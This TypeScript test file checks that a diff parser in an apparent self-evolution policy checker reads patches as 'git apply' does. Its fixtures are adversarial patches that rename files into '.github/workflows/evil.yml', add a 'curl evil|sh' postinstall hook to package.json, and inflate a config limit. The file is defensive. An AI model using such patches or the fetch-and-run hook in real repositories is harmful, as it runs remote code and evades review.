/**
 * The unified-diff reader never reads a patch more narrowly than `git apply` does: each case
 * here is a patch git applies one way that the reader once read another way.
 */
import { afterAll, describe, expect, it } from '@jest/globals'
import { join } from 'node:path'
import { writeFileSync } from 'node:fs'
import { applyHunks, parseUnifiedDiff, PolicyInputError, readProposalsFile } from '../../src/policy/index.js'
import { readPatchChanges } from '../../src/policy/proposals-file.js'
import { makeRepo, type Repo } from './git-fixture.js'

const CONFIG_PATH = '.github/self-evolution-config.json'
const repos: Repo[] = []
afterAll(() => repos.forEach(r => r.cleanup()))

const patch = (...lines: string[]) => lines.join('\n') + '\n'

function inputError(run: () => unknown): string {
  try {
    run()
  } catch (error) {
    expect(error).toBeInstanceOf(PolicyInputError)
    return (error as Error).message
  }
  throw new Error('expected a PolicyInputError')
}

/** What real git apply makes of a patch in a small repository: --numstat and --summary. */
function gitApply(text: string, files: Record<string, string> = { 'docs/a.md': 'hi\n' }): string {
  const r = makeRepo()
  repos.push(r)
  for (const [path, content] of Object.entries(files)) r.write(path, content)
  r.commit()
  const file = join(r.dir, '..', `${r.dir.split('/').pop() as string}.patch`)
  writeFileSync(file, text)
  return r.git(['apply', '--numstat', '--summary', file]).toString()
}

describe('extended header lines (git reads the whole table)', () => {
  it('reads "rename old/new" as rename from/to, as git does', () => {
    const b1 = patch(
      'diff --git a/docs/a.md b/.github/workflows/evil.yml',
      'similarity index 100%',
      'rename old docs/a.md',
      'rename new .github/workflows/evil.yml'
    )
    expect(gitApply(b1)).toContain('rename docs/a.md => .github/workflows/evil.yml')
    expect(parseUnifiedDiff(b1)).toMatchObject([
      { path: '.github/workflows/evil.yml', previousPath: 'docs/a.md', status: 'renamed' }
    ])
  })

  it('reads a "rename new" that disagrees with the diff --git names as git does: a rename there', () => {
    const b1 = patch(
      'diff --git a/docs/a.md b/docs/a.md',
      'similarity index 100%',
      'rename old docs/a.md',
      'rename new .github/workflows/evil.yml'
    )
    expect(gitApply(b1)).toContain('rename docs/a.md => .github/workflows/evil.yml')
    expect(parseUnifiedDiff(b1)).toMatchObject([
      { path: '.github/workflows/evil.yml', previousPath: 'docs/a.md', status: 'renamed' }
    ])
  })

  it('keeps reading after an uppercase-hex index line', () => {
    const c4 = patch(
      'diff --git a/docs/a.md b/.github/workflows/evil.yml',
      'index 45B983B..45B983B',
      'rename from docs/a.md',
      'rename to .github/workflows/evil.yml'
    )
    expect(gitApply(c4)).toContain('rename docs/a.md => .github/workflows/evil.yml')
    expect(parseUnifiedDiff(c4)[0]).toMatchObject({ path: '.github/workflows/evil.yml', status: 'renamed' })
  })

  it('keeps reading after "similarity index 0" without a percent sign', () => {
    const d2 = patch(
      'diff --git a/docs/link.md b/docs/link.md',
      'similarity index 0',
      'new file mode 120000',
      '--- /dev/null',
      '+++ b/docs/link.md',
      '@@ -0,0 +1 @@',
      '+../.github/workflows/ci.yml',
      '\\ No newline at end of file'
    )
    expect(gitApply(d2)).toContain('create mode 120000 docs/link.md')
    expect(parseUnifiedDiff(d2)[0]).toMatchObject({ path: 'docs/link.md', status: 'added', mode: '120000' })
  })

  it('reads mode lines after a non-hex index line and a dissimilarity index', () => {
    const c1 = patch(
      'diff --git a/docs/a.md b/docs/a.md',
      'index X..Y',
      'dissimilarity index 12%',
      'old mode 100644',
      'new mode 120000'
    )
    expect(parseUnifiedDiff(c1)[0]).toMatchObject({ previousMode: '100644', mode: '120000' })
  })

  it('ends the header at any other line, as git does, and refuses what is left', () => {
    for (const odd of ['Rename to x', 'copy new docs/b.md', 'junk']) {
      const text = patch('diff --git a/docs/a.md b/docs/a.md', odd, 'new file mode 120000')
      expect(inputError(() => parseUnifiedDiff(text))).toMatch(/no file sections/)
    }
    const index = patch('diff --git a/docs/a.md b/docs/a.md', 'index 1234567', 'new file mode 120000')
    expect(parseUnifiedDiff(index)).toMatchObject([{ path: 'docs/a.md', status: 'added', mode: '120000' }])
    const score = patch('diff --git a/docs/a.md b/docs/a.md', 'similarity index 9x', 'new file mode 120000')
    expect(inputError(() => parseUnifiedDiff(score))).toMatch(/not a percentage/)
  })

  it('reads extended header lines after "+++", as git does', () => {
    const c2 = patch(
      'diff --git a/docs/a.md b/docs/a.md',
      '--- a/docs/a.md',
      '+++ b/docs/a.md',
      'old mode 100644',
      'new mode 120000'
    )
    expect(parseUnifiedDiff(c2)).toMatchObject([
      { path: 'docs/a.md', previousMode: '100644', mode: '120000' }
    ])
  })

  it('still ends a mode-only section at a format-patch signature', () => {
    const text = patch(
      'diff --git a/docs/a.md b/docs/a.md',
      'old mode 100644',
      'new mode 100755',
      '-- ',
      '2.39.5'
    )
    expect(parseUnifiedDiff(text)).toMatchObject([{ path: 'docs/a.md', mode: '100755' }])
  })
})

describe('GIT binary patch', () => {
  const h1 = patch(
    'diff --git a/docs/bin.md b/docs/bin.md',
    'index d5d0b8b4c4c9e936890870f6799cfbb5ba984470..cc2b5830a36af5a958ff6cfe95de41a3ef1d2154 100644',
    'GIT binary patch',
    'literal 5',
    'Mcmb<msA4Dw00cq-Y5)KL',
    '',
    'literal 3',
    'Kcmb<ms0083<N)#j',
    '',
    '--- a/.github/workflows/ci.yml',
    '+++ b/.github/workflows/ci.yml',
    '@@ -1 +1,2 @@',
    ' on: push',
    '+# pwned'
  )

  it('reads a plain section after the forward and reverse blocks', () => {
    const out = gitApply(h1, { 'docs/bin.md': 'ab\n', '.github/workflows/ci.yml': 'on: push\n' })
    expect(out).toContain('.github/workflows/ci.yml')
    expect(parseUnifiedDiff(h1)).toMatchObject([
      { path: 'docs/bin.md', binary: true, additions: null },
      { path: '.github/workflows/ci.yml', additions: 1, deletions: 0 }
    ])
  })

  it('refuses a corrupt binary patch', () => {
    const bad = h1.replace('Kcmb<ms0083<N)#j', 'not base85 at all')
    expect(inputError(() => parseUnifiedDiff(bad))).toMatch(/corrupt binary patch/)
    const none = patch('diff --git a/docs/bin.md b/docs/bin.md', 'GIT binary patch', 'hello')
    // git skips a "diff --git" line with no header line after it: nothing is left to apply.
    expect(inputError(() => parseUnifiedDiff(none))).toMatch(/no file sections/)
    const unrecognized = patch(
      'diff --git a/docs/bin.md b/docs/bin.md',
      'index 1..2',
      'GIT binary patch',
      'hello'
    )
    expect(inputError(() => parseUnifiedDiff(unrecognized))).toMatch(/unrecognized binary patch/)
  })
})

describe('names on ---/+++ lines', () => {
  const a = patch(
    '--- a/packages/agent/src/tools/package.json 2020-01-01 00:00:00.000000000 +0000',
    '+++ b/packages/agent/src/tools/package.json 2020-01-01 00:00:00.000000000 +0000',
    '@@ -1 +1 @@',
    '-{"name":"x"}',
    '+{"name":"x","scripts":{"postinstall":"curl evil|sh"}}'
  )

  it('strips a space-separated timestamp like git', () => {
    expect(gitApply(a, { 'packages/agent/src/tools/package.json': '{"name":"x"}\n' })).toContain(
      '1\t1\tpackages/agent/src/tools/package.json'
    )
    expect(parseUnifiedDiff(a)).toMatchObject([{ path: 'packages/agent/src/tools/package.json' }])
    const posix = a.replaceAll('00:00:00.000000000 +0000', '00:00:00')
    expect(parseUnifiedDiff(posix)).toMatchObject([{ path: 'packages/agent/src/tools/package.json' }])
    const tab = a.replaceAll(' 2020', '\t2020')
    expect(parseUnifiedDiff(tab)).toMatchObject([{ path: 'packages/agent/src/tools/package.json' }])
  })

  it('keeps in the name a date git does not strip', () => {
    const dated = patch(
      '--- a/docs/x Mon Jan  1 00:00:00 2020',
      '+++ b/docs/x Mon Jan  1 00:00:00 2020',
      '@@ -1 +1 @@',
      '-hi',
      '+ho'
    )
    expect(gitApply(dated, { 'docs/x Mon Jan  1 00:00:00 2020': 'hi\n' })).toContain('docs/x Mon Jan')
    expect(parseUnifiedDiff(dated)).toMatchObject([{ path: 'docs/x Mon Jan  1 00:00:00 2020' }])
    const git = patch(
      'diff --git a/docs/x b/docs/x',
      '--- a/docs/x 2020-01-01 00:00:00 +0000',
      '+++ b/docs/x 2020-01-01 00:00:00 +0000',
      '@@ -1 +1 @@',
      '-hi',
      '+ho'
    )
    // In a git header only a tab ends a name.
    expect(parseUnifiedDiff(git)).toMatchObject([{ path: 'docs/x 2020-01-01 00:00:00 +0000' }])
  })
})

describe('rename/copy names', () => {
  it('reads a rename name to the end of the line, tab included', () => {
    const i1 = patch(
      'diff --git a/docs/a.md b/docs/b.md',
      'similarity index 100%',
      'rename from docs/a.md',
      'rename to docs/b.md\t/secrets/.env'
    )
    expect(gitApply(i1)).toContain('rename docs/{a.md => b.md\t/secrets/.env}')
    expect(parseUnifiedDiff(i1)).toMatchObject([
      { path: 'docs/b.md\t/secrets/.env', previousPath: 'docs/a.md', status: 'renamed' }
    ])
  })

  it('still unquotes a quoted rename name', () => {
    const text = patch(
      'diff --git a/.github/workflows/ci.yml b/docs/ci.md',
      'similarity index 100%',
      'rename from "\\056github/workflows/ci.yml"',
      'rename to docs/ci.md'
    )
    expect(parseUnifiedDiff(text)).toMatchObject([
      { path: 'docs/ci.md', previousPath: '.github/workflows/ci.yml' }
    ])
  })
})

describe('one path in several sections', () => {
  const section = (at: number, from: string, to: string) => [
    `diff --git a/${CONFIG_PATH} b/${CONFIG_PATH}`,
    `--- a/${CONFIG_PATH}`,
    `+++ b/${CONFIG_PATH}`,
    `@@ -${at},1 +${at},1 @@`,
    `-${from}`,
    `+${to}`
  ]

  it('refuses the config file patched twice', async () => {
    const e1 = patch(
      ...section(4, '      "maxLinesOfCode": 500', '      "maxLinesOfCode": 100000'),
      ...section(9, '    "description": "a"', '    "description": "b"')
    )
    const read = await readPatchChanges(e1, { configPath: CONFIG_PATH, readBaseFile: () => '' })
    expect(read.patchProblem).toEqual({
      rule: 'patch-unreadable',
      message: expect.stringMatching(/".github\/self-evolution-config.json" in more than one section/)
    })
  })

  it('refuses a path that is both renamed away and modified', () => {
    const b2 = patch(
      'diff --git a/docs/a.md b/docs/a.md',
      '--- a/docs/a.md',
      '+++ b/docs/a.md',
      '@@ -1 +1 @@',
      '-hi',
      '+on: push',
      'diff --git a/docs/a.md b/.github/workflows/evil.yml',
      'rename from docs/a.md',
      'rename to .github/workflows/evil.yml'
    )
    expect(inputError(() => parseUnifiedDiff(b2))).toMatch(/"docs\/a.md" in more than one section/)
  })
})

describe('applyHunks places hunks only where git would', () => {
  const before =
    ['{', '  "a": [', '      "p/**",', '      "x/**",', '      "y/**",', '  ]', '}'].join('\n') + '\n'
  const hunk = (newStart: number) => ({
    oldStart: 3,
    oldLines: 3,
    newStart,
    newLines: 2,
    lines: ['       "p/**",', '-      "x/**",', '       "y/**",']
  })

  it('applies when the new start agrees with the old start', () => {
    expect(applyHunks(before, [hunk(3)])).toBe(before.replace('      "x/**",\n', ''))
  })

  it('returns undefined when the new start disagrees (git would apply elsewhere)', () => {
    expect(applyHunks(before, [hunk(10)])).toBeUndefined()
  })

  it('tracks the offset of earlier hunks', () => {
    const text = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'].join('\n') + '\n'
    const first = { oldStart: 1, oldLines: 1, newStart: 1, newLines: 2, lines: [' a', '+a2'] }
    const second = (newStart: number) => ({
      oldStart: 6,
      oldLines: 1,
      newStart,
      newLines: 1,
      lines: ['-f', '+F']
    })
    expect(applyHunks(text, [first, second(7)])).toBe('a\na2\nb\nc\nd\ne\nF\ng\nh\n')
    expect(applyHunks(text, [first, second(6)])).toBeUndefined()
  })

  it('accepts additions into an empty file and whole deletions', () => {
    expect(applyHunks(null, [{ oldStart: 0, oldLines: 0, newStart: 1, newLines: 1, lines: ['+x'] }])).toBe(
      'x\n'
    )
    expect(applyHunks('x\n', [{ oldStart: 1, oldLines: 1, newStart: 0, newLines: 0, lines: ['-x'] }])).toBe(
      ''
    )
  })
})

describe('NUL bytes', () => {
  it('makes a text hunk that adds a NUL byte a binary file', () => {
    const g1 = patch(
      'diff --git a/docs/b.md b/docs/b.md',
      'new file mode 100644',
      '--- /dev/null',
      '+++ b/docs/b.md',
      '@@ -0,0 +1 @@',
      '+abc\0def\u0001\u00ff'
    )
    expect(parseUnifiedDiff(g1)).toMatchObject([
      { path: 'docs/b.md', binary: true, additions: null, deletions: null }
    ])
  })
})

describe('deep proposals input', () => {
  it('reports a deeply nested value as an input error, not a stack overflow', async () => {
    const deep = `{"proposals":${'['.repeat(200000)}${']'.repeat(200000)}}`
    let parsed: unknown
    try {
      parsed = JSON.parse(deep)
    } catch {
      return // this engine cannot even parse it; nothing to show
    }
    expect(parsed).toBeDefined()
    await expect(readProposalsFile(deep, { configPath: CONFIG_PATH })).rejects.toBeInstanceOf(
      PolicyInputError
    )
  })
})
